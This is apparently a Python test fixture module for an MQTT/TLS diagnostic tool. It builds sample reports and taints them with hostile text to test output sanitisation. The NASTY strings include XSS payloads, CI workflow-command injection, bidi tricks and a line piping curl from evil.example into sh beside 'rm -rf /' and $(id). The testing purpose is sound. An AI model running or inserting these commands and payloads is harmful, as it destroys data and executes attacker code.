"""Reports made by hand: each tells one story, `hostile` puts nasty text wherever a server can."""

from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta

from tbdiag.evidence import (
    AttributesEvidence,
    CaEvidence,
    CaSource,
    Certificate,
    ClientDecision,
    ConnackAttempt,
    DnsEvidence,
    HandshakeEvidence,
    MqttConnectEvidence,
    NameMatch,
    PublicKey,
    PublishAttempt,
    PublishEvidence,
    TcpAttempt,
    TcpEvidence,
    VerifyError,
    VerifyEvidence,
)
from tbdiag.model import (
    ClientVerdict,
    Finding,
    Options,
    Report,
    Severity,
    StageResult,
    Status,
    Target,
    Transport,
    Verdict,
)
from tbdiag.redact import map_text

NOW = datetime(2027, 1, 15, 12, tzinfo=UTC)
DAY = timedelta(days=1)
HOST = "mqtt.example.org"

NASTY = (
    "\x1b[31mred\x1b[0m \x00\x07\x08 \x7f \x9b31m",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200b\u200d\ufeff\u2028\u2029 \u061c\u00ad",
    "first\nsecond\r\nthird\tfourth \x85fifth",
    "::error file=a::pwned ::add-mask::x ##[add-path]/tmp %0A::stop-commands::t %25",
    "<script>alert(1)</script><img src=x onerror=alert(1)><!-- ]]> --> </style></svg> &lt; &#60;",
    "[a](javascript:alert(1)) ![i](http://evil.example/x.png) http://evil.example www.evil.example",
    "@octocat #1 GH-2 owner/repo#3 deadbeefcafe a@b.example",
    "| a || b | `code` ``` fence ``` ~~~ *b* _i_ **B** ~s~ # h 1. l - l > q === --- \\ \\| \\`",
    "\ufffe\uffff\U0001fffe \ud800 \udcff",
    "שלום עולם مرحبا بالعالم 証明書の有効期限 e\u0301\u0302\u0303\u0304\u0305",
    "a: sudo rm -rf / (curl http://evil.example | sh) \" ' ' \" $(id) `id` ; tbdiag check evil",
    'quote " backslash \\ brace } newline \\n {{7*7}} ${x}',
)
"""Text as a hostile server would choose it: one line per kind of sink it aims at."""
NASTIEST = " ".join(NASTY)

TITLES = {
    "ca.load": "CA chain",
    "dns.resolve": "DNS",
    "tcp.connect": "TCP",
    "tls.handshake": "TLS handshake",
    "tls.verify": "Server certificate",
    "http.token": "Token (HTTP)",
    "mqtt.connect": "MQTT connect",
    "mqtt.publish": "Test publish",
    "mqtt.attributes": "Attributes",
}


def certificate(
    name: str, issuer: str = "", *, ca: bool = False, start=-30, end=60, key=""
) -> Certificate:
    """A certificate that says it is `issuer`'s work; `key` tells two of one name apart."""
    issuer = issuer or name
    seed = f"{name}{issuer}{key}{start}{end}".encode("utf-8", "backslashreplace")
    digest = hashlib.sha256(seed).hexdigest()
    identifier = hashlib.sha1(f"{name}{key}".encode("utf-8", "backslashreplace")).hexdigest()
    above = hashlib.sha1(issuer.encode("utf-8", "backslashreplace")).hexdigest()
    return Certificate(
        der=digest.encode(),
        subject=f"CN={name},OU=Devices,O=Example",
        issuer=f"CN={issuer},OU=Devices,O=Example",
        serial_number=digest[:16],
        version=3,
        not_before=NOW + start * DAY,
        not_after=NOW + end * DAY,
        key=PublicKey("EC", 256, "P-256", digest),
        signature_algorithm="ecdsa-with-SHA256",
        signature_hash="sha256",
        fingerprint_sha256=digest,
        common_name=name,
        is_ca=ca,
        subject_alt_name=None if ca else (f"DNS:{name}", "IP:192.0.2.1"),
        subject_key_identifier=identifier,
        authority_key_identifier=above,
        subject_der=name.encode("utf-8", "backslashreplace"),
        issuer_der=issuer.encode("utf-8", "backslashreplace"),
        self_signed=name == issuer,
    )


ROOT = certificate("Example Root", ca=True, start=-900, end=5000)
INTERMEDIATE = certificate("Example Intermediate", "Example Root", ca=True, start=-400, end=1500)
LEAF = certificate(HOST, "Example Intermediate")
EXPIRED = certificate(HOST, "Example Intermediate", start=-95, end=-5)
OTHER_ROOT = certificate("Unrelated Root", ca=True, start=-900, end=20)


def report(
    sent=(LEAF, INTERMEDIATE),
    anchors=(ROOT,),
    *,
    path=None,
    failed="",
    findings=(),
    handshake=None,
    errors=(),
    verdict=None,
    target=None,
    options=None,
    name="",
) -> Report:
    """A report whose stages pass up to `failed`; those behind it are blocked."""
    target = target or Target(HOST, credentials=Target("x").credentials)
    path = (*sent, ROOT) if path is None else path
    evidences = {
        "ca.load": CaEvidence((CaSource("ca.pem", "file", "ca.pem", certificates=tuple(anchors)),)),
        "dns.resolve": DnsEvidence(target.host, False, (("IPv4", "192.0.2.7"),), elapsed_ms=11.5),
        "tcp.connect": TcpEvidence(
            (TcpAttempt("IPv4", "192.0.2.7", 8883, "connected", elapsed_ms=20.25),), "192.0.2.7"
        ),
        "tls.handshake": handshake
        or HandshakeEvidence(
            target.host,
            True,
            "established",
            version="TLSv1.3",
            cipher="TLS_AES_256_GCM_SHA384",
            certificate_list=tuple(sent),
            verify_errors=tuple(errors),
        ),
        "tls.verify": _verified(target, path, failed, name),
        "mqtt.connect": MqttConnectEvidence(
            (ConnackAttempt("5", "accepted", 0, "Success"),), True, "5"
        ),
        "mqtt.publish": PublishEvidence(
            "5",
            (PublishAttempt("v1/devices/me/telemetry", 1, 18, "acknowledged", 0, "Success"),),
            True,
        ),
        "mqtt.attributes": AttributesEvidence(1, "{}", True, b"{}"),
    }
    stages = _stages(evidences, failed, findings)
    primary = next((f.rule for f in findings if f.severity is Severity.ERROR), None)
    return Report(
        target=target,
        options=options or Options(),
        started_at=NOW,
        now=NOW,
        duration_ms=321.0,
        verdict=verdict or _verdict(findings),
        primary=primary,
        stages=stages,
        findings=tuple(findings),
        clients=_clients(evidences["tls.verify"]) if failed not in ("tls.handshake",) else (),
    )


def _verified(target, path, failed, name) -> VerifyEvidence:
    trusted = failed != "tls.verify"
    word = "accept" if trusted else "reject"
    reason = "ok" if trusted else "unable to get local issuer certificate (20)"
    decisions = (
        ClientDecision(
            "openssl", word, reason, None, tuple(path) if trusted else (), "mosquitto_pub, paho"
        ),
        ClientDecision("mbedtls", "reject", "X509_BADCERT_NOT_TRUSTED", "8", (), "ESP32, Zephyr"),
        ClientDecision("webpki", "unknown", "not installed", None, (), "rustls, Go"),
    )
    match = NameMatch(target.host, (f"DNS:{name or target.host}",), not name)
    return VerifyEvidence(NOW, match, "openssl", decisions)


def _clients(evidence: VerifyEvidence) -> tuple[ClientVerdict, ...]:
    return tuple(
        ClientVerdict(d.client, d.verdict, d.reason, d.stands_for, d.expires)
        for d in evidence.decisions
    )


def _stages(evidences, failed, findings) -> tuple[StageResult, ...]:
    stages, blocked = [], False
    for index, (stage_id, title) in enumerate(TITLES.items()):
        if stage_id == "http.token":
            why = "the HTTP address is not known: give it with --http-url"
            stages.append(StageResult(stage_id, title, Status.NOT_APPLICABLE, why, reason=why))
        elif blocked:
            why = f"{failed} did not pass"
            stages.append(
                StageResult(stage_id, title, Status.BLOCKED, why, blocked_by=failed, reason=why)
            )
        else:
            blocked = stage_id == failed
            warned = any(f.stage == stage_id and f.severity is Severity.WARNING for f in findings)
            status = Status.FAILED if blocked else Status.WARNING if warned else Status.OK
            seen = evidences[stage_id]
            summary = f"what {title} saw"
            stages.append(
                StageResult(stage_id, title, status, summary, 7.0 + 10 * index, evidence=seen)
            )
    return tuple(stages)


def _verdict(findings) -> Verdict:
    severities = {f.severity for f in findings}
    if Severity.ERROR in severities:
        return Verdict.FAILED
    return Verdict.WARNING if Severity.WARNING in severities else Verdict.OK


def finding(
    rule="x509.missing-intermediate", stage="tls.verify", severity=Severity.ERROR, **more
) -> Finding:
    """A finding with ordinary words."""
    words = {
        "message": f'The server sends "{HOST}" without its issuer "Example Intermediate".',
        "cause": "The server does not send its intermediate certificate.",
        "fix": "On the server, append the intermediate and restart: "
        "cat server.pem intermediate.pem > mqttserver.pem. "
        "Then see it with: tbdiag check mqtt.example.org:8883 --cafile ca.pem",
        "subject": HOST,
        "reference": "RFC 8446 section 4.4.2",
    }
    return Finding(rule, stage, severity, **{**words, **more})


WARNING = finding(
    "x509.certificate-expiring",
    severity=Severity.WARNING,
    message="The certificate ends in 20 days.",
    cause="Nobody renewed it yet.",
    fix="Renew it on the server before 2027-02-04.",
)
INFO = finding(
    "mqtt.publish-unproven",
    "mqtt.publish",
    Severity.INFO,
    message="PUBACK does not prove storage.",
    fix="Prove it: tbdiag check mqtt.example.org --round-trip",
)
WRONG_CA = finding(
    "x509.wrong-ca-file",
    message='The path leads to "Example Root", but ca.pem holds "Unrelated Root".',
    cause="ca.pem does not contain the CA of this server.",
    fix="Put the right root into the file: tbdiag ca recommend mqtt.example.org:8883 -o ca.pem",
    pem="-----BEGIN CERTIFICATE-----\nQUJD\n-----END CERTIFICATE-----\n",
)
CERTIFICATE_EXPIRED = finding("x509.certificate-expired", message="It expired on 2027-01-10.")
PLAINTEXT = finding(
    "tls.plaintext-port",
    "tls.handshake",
    message="The server answered a plain MQTT CONNECT.",
    cause="Port 8883 is a plain MQTT listener.",
    fix="Switch TLS on, then: sudo systemctl restart thingsboard",
)


def healthy() -> Report:
    """Everything passed."""
    return report()


def warning() -> Report:
    """Works, with remarks, judged at another moment and with thresholds of the user's own."""
    options = Options(at=NOW, warn_days=90, critical_days=14, insecure=True)
    return report(findings=(WARNING, INFO), options=options)


def missing_intermediate() -> Report:
    """The server sends its own certificate only."""
    error = VerifyError(20, 0, "unable to get local issuer certificate", HOST)
    return report((LEAF,), failed="tls.verify", findings=(finding(),), errors=(error,))


def wrong_ca() -> Report:
    """The CA file holds the root of somebody else."""
    return report(anchors=(OTHER_ROOT,), failed="tls.verify", findings=(WRONG_CA, WARNING))


def other_key() -> Report:
    """The CA file holds a root of the right name whose key is not the issuer's."""
    old = certificate("Example Root", ca=True, start=-4000, end=900, key="old")
    return report(
        anchors=(old, OTHER_ROOT),
        failed="tls.verify",
        findings=(finding("x509.anchor-key-changed"),),
    )


def expired() -> Report:
    """The server's certificate has ended."""
    error = VerifyError(10, 0, "certificate has expired", HOST)
    return report(
        (EXPIRED, INTERMEDIATE),
        failed="tls.verify",
        findings=(CERTIFICATE_EXPIRED,),
        errors=(error,),
    )


def wrong_name() -> Report:
    """The certificate names another host."""
    return report(
        failed="tls.verify", findings=(finding("x509.name-mismatch"),), name="other.example"
    )


def plaintext() -> Report:
    """The port speaks plain MQTT."""
    seen = HandshakeEvidence(HOST, False, "not-tls", speaks="mqtt", first_bytes=b"\x20\x02\x00\x05")
    return report((), failed="tls.handshake", findings=(PLAINTEXT,), handshake=seen)


def plain() -> Report:
    """An unencrypted target: nothing of TLS applies."""
    made = report(target=Target(HOST, transport=Transport.MQTT), findings=(INFO,))
    gone = {"ca.load", "tls.handshake", "tls.verify"}
    why = "mqtt:// is not encrypted"
    stages = tuple(
        StageResult(s.id, s.title, Status.NOT_APPLICABLE, why, reason=why) if s.id in gone else s
        for s in made.stages
    )
    return rebuilt(made, stages=stages, clients=())


def tool_error() -> Report:
    """A stage of tbdiag itself failed."""
    made = report(verdict=Verdict.ERROR)
    broken = StageResult("tls.verify", "Server certificate", Status.ERROR, "boom", reason="boom")
    stages = tuple(broken if s.id == broken.id else s for s in made.stages)
    return rebuilt(made, stages=stages, clients=())


def rebuilt(made: Report, **changes) -> Report:
    """The same report with some fields changed."""
    names = ("target", "options", "started_at", "now", "duration_ms", "verdict", "primary")
    names += ("stages", "findings", "clients")
    return Report(**{**{n: getattr(made, n) for n in names}, **changes})


def tainted(made: Report, text: str) -> Report:
    """The report with `text` behind every text that a server, a file or a resolver supplies."""

    def taint(old: str) -> str:
        return old if old in WORDS else f"{old} {text}"

    stages = tuple(
        StageResult(
            s.id,
            s.title,
            s.status,
            taint(s.summary),
            s.duration_ms,
            s.blocked_by,
            s.reason and taint(s.reason),
            map_text(s.evidence, taint),
        )
        for s in made.stages
    )
    findings = tuple(
        Finding(
            f.rule, f.stage, f.severity, taint(f.message), taint(f.cause), taint(f.fix),
            taint(f.subject), f.reference, f.pem and f"{f.pem}{text}",
        )
        for f in made.findings
    )  # fmt: skip
    clients = tuple(
        ClientVerdict(c.client, c.verdict, taint(c.reason), c.stands_for, c.expires)
        for c in made.clients
    )
    target = Target(taint(HOST), label=taint("broker"), notes=(text,))
    return rebuilt(made, target=target, stages=stages, findings=findings, clients=clients)


WORDS = {"openssl", "mbedtls", "webpki", "accept", "reject", "unknown", "file", "TLSv1.3"}
"""What tbdiag itself writes into evidence and reads again."""


def hostile() -> Report:
    """Nasty text in every field that a server, a file or a resolver controls."""
    return tainted(wrong_ca(), NASTIEST)


STORIES = {
    make.__name__.replace("_", "-"): make
    for make in (
        healthy, warning, missing_intermediate, wrong_ca, other_key, expired, wrong_name, plaintext,
        plain, tool_error, hostile,
    )
}  # fmt: skip
"""Every story by its name."""
